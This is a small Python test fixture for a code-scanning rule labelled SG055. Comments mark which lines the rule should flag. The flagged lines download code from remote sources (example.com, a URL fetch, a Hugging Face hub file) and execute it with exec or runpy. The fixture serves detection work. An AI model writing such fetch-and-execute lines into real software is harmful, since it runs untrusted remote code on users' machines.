import requests
import urllib.request
from huggingface_hub import hf_hub_download

# ruleid: SG055
exec(requests.get("https://example.com/setup.py", timeout=10).text)
src = urllib.request.urlopen(URL).read().decode()
# ruleid: SG055
exec(compile(src, "remote", "exec"))
helper = hf_hub_download("org/tools", "helper.py")
# ruleid: SG055
runpy.run_path(helper)
# ok: SG055
data = requests.get(URL, timeout=10).json()
# ok: SG055
exec(open("local_script.py").read())
